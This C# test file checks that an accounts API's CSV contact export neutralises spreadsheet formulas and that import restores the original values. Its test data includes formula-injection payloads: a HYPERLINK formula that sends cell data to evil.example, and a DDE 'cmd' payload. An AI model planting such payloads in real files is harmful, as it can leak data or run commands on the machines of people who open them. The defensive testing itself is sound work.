using System.Text;
using System.Text.Json;

namespace Thena.Accounts.Api.Tests.Moving;

/// <summary>Texts in CSV files that a spreadsheet would compute as formulas.</summary>
public sealed class FormulaTests(AccountsServer server) : IClassFixture<AccountsServer>
{
    private const string Export = "/v1/accounts/export?kind=contacts&format=csv", Import = "/v1/accounts/contacts/import?update=true";

    private static readonly string[] Formulas =
    [
        "=HYPERLINK(\"http://evil.example/?\"&A1)", "@SUM(1)", "+1+cmd|' /C calc'!A0", "-1+1", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠1",
    ];

    private static readonly string[] Others = ["'quoted'", "'", "a=1", "1", " =1", "'=1", "''-1", "'\t"];

    [Fact]
    public async Task Export_OfTextsThatAreFormulas_HasNoneAndTheImportRestoresThem()
    {
        var tenant = await server.CreateTenantAsync();
        var fields = await CreateContactsAsync(tenant);
        var before = await server.ReadContentAsync();

        var table = (await tenant.Client.Get(Export)).Expect(200).Text;

        foreach (var formula in Formulas)
        {
            Assert.Contains(Quoted($"'{formula}"), table, StringComparison.Ordinal);
            Assert.DoesNotContain(Quoted(formula), table, StringComparison.Ordinal);
        }

        Assert.Contains($",'={fields.Text},", table, StringComparison.Ordinal);
        Assert.Contains(",'+1 555 123 4567,", table, StringComparison.Ordinal);
        Assert.Contains(",-5\r\n", table, StringComparison.Ordinal);
        await ImportAsync(tenant, Import, table);
        Assert.Equal(before, await server.ReadContentAsync());

        // The texts come from the file, not from before.
        await ImportAsync(tenant, Import, table.Replace("'＝1", "'＝2", StringComparison.Ordinal));
        Assert.Contains("＝2", await ValuesAsync(tenant));
    }

    [Fact]
    public async Task Export_OfAnExactFile_HasTheTextsAsTheyAreAndSoHasTheImport()
    {
        var tenant = await server.CreateTenantAsync();
        await CreateContactsAsync(tenant);
        var before = await server.ReadContentAsync();

        var table = (await tenant.Client.Get($"{Export}&exact=true")).Expect(200).Text;

        Assert.All(Formulas.Concat(Others), text => Assert.Contains(Quoted(text), table, StringComparison.Ordinal));
        await ImportAsync(tenant, $"{Import}&exact=true", table);
        Assert.Equal(before, await server.ReadContentAsync());
    }

    [Fact]
    public async Task CommandLine_ExportsAndImportsAsTheOperationsDo()
    {
        var tenant = await server.CreateTenantAsync();
        await CreateContactsAsync(tenant);
        var before = await server.ReadContentAsync();
        var folder = Directory.CreateTempSubdirectory();
        try
        {
            foreach (var exact in new[] { Array.Empty<string>(), ["--exact"] })
            {
                await RunAsync(["export", "--organization", tenant.OrganizationId, "--to", folder.FullName, "--format", "csv", .. exact]);
                var file = Path.Combine(folder.FullName, "contacts.csv");
                var table = await File.ReadAllTextAsync(file, TestContext.Current.CancellationToken);
                Assert.Equal(exact.Length == 0, table.Contains(",'@SUM(1)", StringComparison.Ordinal));
                await RunAsync(["import", "contacts", file, "--organization", tenant.OrganizationId, "--update", .. exact]);
                Assert.Equal(before, await server.ReadContentAsync());
            }
        }
        finally
        {
            folder.Delete(recursive: true);
        }
    }

    /// <summary>Creates a contact for each text, as the value of a field whose name is a formula. The columns have long names.</summary>
    private static async Task<(string Text, string Number)> CreateContactsAsync(Tenant tenant)
    {
        const string Source = "customer_contact";
        var (name, number) = ($"T{new string('x', 200)}", $"N{new string('y', 200)}");
        foreach (var other in Enumerable.Range(0, 5))
        {
            await tenant.CreateCustomFieldAsync(new { source = Source, name = $"{other}{new string('z', 240)}" });
        }

        var text = (await tenant.CreateCustomFieldAsync(new { source = Source, name = $"={name}" })).Text("uid");
        var integer = await tenant.CreateIntegerFieldAsync(new { source = Source, name = number });
        foreach (var data in Formulas.Concat(Others))
        {
            await tenant.CreateContactAsync(new
            {
                phoneNumber = "+1 555 123 4567",
                customFieldValues = new object[] { new { customFieldId = text, data }, new { customFieldId = integer, data = -5 } },
            });
        }

        return (name, number);
    }

    private static async Task<string[]> ValuesAsync(Tenant tenant) =>
        [.. (await tenant.ListAllAsync(Paths.Contacts)).Select(contact => contact.GetProperty("customFieldValues")[0].Text("data"))];

    /// <summary>Returns a text as it stands in a cell.</summary>
    private static string Quoted(string text) =>
        text.AsSpan().IndexOfAny("\"\r\n,") >= 0 || text.StartsWith(' ')
            ? $",\"{text.Replace("\"", "\"\"", StringComparison.Ordinal)}\","
            : $",{text},";

    private static async Task ImportAsync(Tenant tenant, string path, string file)
    {
        var lines = (await tenant.Client.Send(HttpMethod.Post, path, Encoding.UTF8.GetBytes(file), "text/csv")).Expect(200).Text;
        Assert.Equal(0, JsonElement.Parse(lines.TrimEnd().Split('\n')[^1]).GetProperty("summary").GetProperty("rejected").GetInt32());
    }

    private Task RunAsync(string[] arguments) => CommandRun.SucceedAsync(server.ConnectionString, arguments);
}
